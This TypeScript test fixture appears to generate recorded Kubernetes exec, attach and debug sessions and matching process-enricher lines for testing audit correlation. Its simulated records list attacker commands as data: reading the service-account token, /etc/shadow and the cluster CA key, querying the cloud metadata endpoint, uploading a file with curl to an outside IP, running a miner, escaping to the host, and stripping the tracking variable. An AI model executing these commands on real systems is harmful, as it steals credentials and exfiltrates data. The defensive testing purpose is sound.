/**
 * Owns: the recorded exec, attach and debug requests with what a node would have said of them: lines
 * of the enricher 1.0.0 by its published shape (whole seconds, trailing blank, the runtime's wrapper),
 * and the marks that its webhook leaves in the audit log.
 */
import { readFileSync } from 'node:fs';
import { isObject } from '../../shared/domain/json.ts';
import { recordedScenario } from './data.ts';

export interface RecordedSessions {
  /** Lines of the audit log, in its order. */
  readonly audit: readonly string[];
  /** Lines of the enricher, by time. */
  readonly enricher: readonly string[];
}

/** First letters of the audit ids of the recording. */
const EXEC_WEBHOOK = [
  ...['5e1b8c0a', 'cce35cde', '49ee73bc', 'e6b88779', '2e79f3e8', 'd2aab94e', '55ecaff6'],
  ...['e5197b26', '0386c4bf', '87ffea5c', 'f4c13d57', '9f845a37', 'b470fcbd'],
];
const NODE_WEBHOOK = ['bf1af2a7'];
const FAILED_OPEN = ['a66c5ae0'];

/** As an admission webhook would have been asked: one UID per request, none of the audit log's. */
export function markOf(auditId: string): string {
  return `feed${auditId.slice(4)}`;
}

function annotationsFor(auditId: string): Readonly<Record<string, string>> {
  const isOf = (prefixes: readonly string[]): boolean =>
    prefixes.some((prefix) => auditId.startsWith(prefix));
  const mark = markOf(auditId);
  if (isOf(EXEC_WEBHOOK)) return { 'execmetadata.spo.io/SPO_EXEC_REQUEST_UID': mark };
  if (isOf(NODE_WEBHOOK)) return { 'nodedebuggingpod.spo.io/SPO_EXEC_REQUEST_UID': mark };
  const key = 'failed-open.mutation.webhook.admission.k8s.io/round_0_index_0';
  return isOf(FAILED_OPEN) ? { [key]: 'execmetadata.spo.io' } : {};
}

/** Annotations come with the answer; the first stage has none. */
function annotated(line: string): string {
  const event: unknown = JSON.parse(line);
  if (!isObject(event) || typeof event['auditID'] !== 'string') return line;
  const added = annotationsFor(event['auditID']);
  if (event['stage'] === 'RequestReceived' || Object.keys(added).length === 0) return line;
  const { annotations } = event;
  return JSON.stringify({
    ...event,
    annotations: { ...(isObject(annotations) ? annotations : {}), ...added },
  });
}

interface Ran {
  /** Minute and second of the recording's hour. */
  readonly at: string;
  readonly pid: number;
  readonly command: string;
  /** Namespace, pod, container; absent: the enricher could not tell. */
  readonly place?: readonly [string, string, string];
  readonly node?: string;
  /** First letters of the audit id whose mark it has. */
  readonly mark?: string;
  readonly executable?: string;
}

const APP = ['payments', 'checkout-0', 'app'] as const;
const LEDGER = { place: ['production', 'ledger-0', 'app'], node: 'node-2' } as const;
const TOKEN = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token';
const DEBUGGED = { place: ['payments', 'checkout-0', 'debugger-l28h6'] } as const;
const ON_NODE = { place: ['default', 'node-debugger-node-1-hmrpx', 'debugger'] } as const;

/** The runtime's wrapper, the first process of an exec: it has the mark in its command line. */
function wrapper(ran: Omit<Ran, 'mark'> & { readonly mark: string }): Ran {
  return { executable: '/usr/bin/crun', ...ran, command: `env MARK ${ran.command}` };
}

const HEALTH = { command: '/app/health --quick', place: APP, executable: '/app/server' };
const CURL = 'curl -s http://169.254.169.254/latest/meta-data/';

const RAN: readonly Ran[] = [
  // The workload's own: before all sessions, and in one.
  { at: '09:50', pid: 900, ...HEALTH },
  { at: '09:30', pid: 890, ...HEALTH },
  { at: '10:13', pid: 905, ...HEALTH },
  // Three sessions of one second: each mark is its own, but any of them could have set it.
  wrapper({ at: '10:00', pid: 4001, command: 'id', place: APP, mark: '5e1b8c0a' }),
  wrapper({ at: '10:00', pid: 4002, command: `sh -c ${CURL}`, place: APP, mark: 'cce35cde' }),
  { at: '10:00', pid: 4003, command: CURL, place: APP, mark: 'cce35cde' },
  wrapper({ at: '10:00', pid: 4010, command: '/bin/bash', place: APP, mark: '49ee73bc' }),
  // The mark is taken out of the environment before the last.
  { at: '10:02', pid: 4011, command: 'rm -f /etc/app/config.yaml', place: APP, mark: '49ee73bc' },
  { at: '10:03', pid: 4012, command: 'env -i /bin/bash', place: APP, mark: '49ee73bc' },
  { at: '10:04', pid: 4013, command: 'curl -T /tmp/d http://203.0.113.9/', place: APP },
  wrapper({ at: '10:10', pid: 5001, command: TOKEN, mark: 'e6b88779', ...LEDGER }),
  wrapper({ at: '10:10', pid: 4020, command: 'id', place: APP, mark: '2e79f3e8' }),
  // One that hides: its own mark, another pod's, and a process that stays.
  wrapper({ at: '10:10', pid: 4030, command: '/bin/bash', place: APP, mark: '55ecaff6' }),
  { at: '10:12', pid: 4031, command: 'whoami', place: APP, mark: '55ecaff6' },
  { at: '10:14', pid: 4033, command: 'cat /etc/shadow', place: APP, mark: 'e6b88779' },
  { at: '10:22', pid: 4034, command: '/tmp/miner -o pool', place: APP, mark: '55ecaff6' },
  // The webhook was down.
  { at: '10:20', pid: 5002, command: TOKEN, ...LEDGER },
  // Never marked, though others are.
  { at: '10:22', pid: 4040, command: 'ls', place: APP },
  // Two that overlap, and the one before within a second.
  wrapper({ at: '10:23', pid: 4050, command: 'sh -c echo A', place: APP, mark: '0386c4bf' }),
  wrapper({
    at: '10:23',
    pid: 4051,
    command: 'tar cf - /etc/passwd',
    place: APP,
    mark: '87ffea5c',
  }),
  { at: '10:23', pid: 4052, command: 'cat /etc/group', place: APP },
  { at: '10:25', pid: 4060, command: 'sh -c sleep 1', mark: 'f4c13d57', ...DEBUGGED },
  { at: '10:25', pid: 4070, command: 'sh', mark: 'bf1af2a7', ...ON_NODE },
  { at: '10:26', pid: 4071, command: 'chroot /host', mark: 'bf1af2a7', ...ON_NODE },
  { at: '10:27', pid: 4072, command: 'cat /etc/kubernetes/pki/ca.key' },
  wrapper({
    ...{ at: '10:25', pid: 5003, command: 'env', mark: '9f845a37' },
    ...{ place: ['production', 'api-0', 'app'], node: 'node-2' },
  }),
  // In the app's container while somebody is in the debug container beside it.
  wrapper({ at: '10:26', pid: 4080, command: 'id', place: APP, mark: 'b470fcbd' }),
];

function lineOf(ran: Ran, auditIds: readonly string[]): string {
  const owner = auditIds.find((id) => ran.mark !== undefined && id.startsWith(ran.mark));
  const uid = owner === undefined ? {} : { requestUID: markOf(owner) };
  const [namespace, pod, container] = ran.place ?? [];
  return JSON.stringify({
    auditID: `11111111-1111-4111-8111-${String(ran.pid).padStart(12, '0')}`,
    cmdLine: `${ran.command.replace('MARK', `SPO_EXEC_REQUEST_UID=${uid.requestUID ?? ''}`)} `,
    executable: ran.executable ?? '/bin/bash',
    gid: 0,
    node: { name: ran.node ?? 'node-1' },
    pid: ran.pid,
    ...uid,
    resource: ran.place === undefined ? null : { container, namespace, pod },
    syscalls: ['execve'],
    timestamp: `2026-11-21T06:${ran.at}.000Z`,
    uid: 0,
    version: 'spo/v1_alpha',
  });
}

function auditIdOf(line: string): string {
  const event: unknown = JSON.parse(line);
  return isObject(event) && typeof event['auditID'] === 'string' ? event['auditID'] : '';
}

/** Needs the recordings (missingData). */
export function recordedSessions(): RecordedSessions {
  const lines = readFileSync(recordedScenario('d').auditLog, 'utf8').trimEnd().split('\n');
  const auditIds = lines.map(auditIdOf);
  return {
    audit: lines.map(annotated),
    enricher: RAN.toSorted((a, b) => (a.at < b.at ? -1 : Number(a.at > b.at))).map((ran) =>
      lineOf(ran, auditIds),
    ),
  };
}
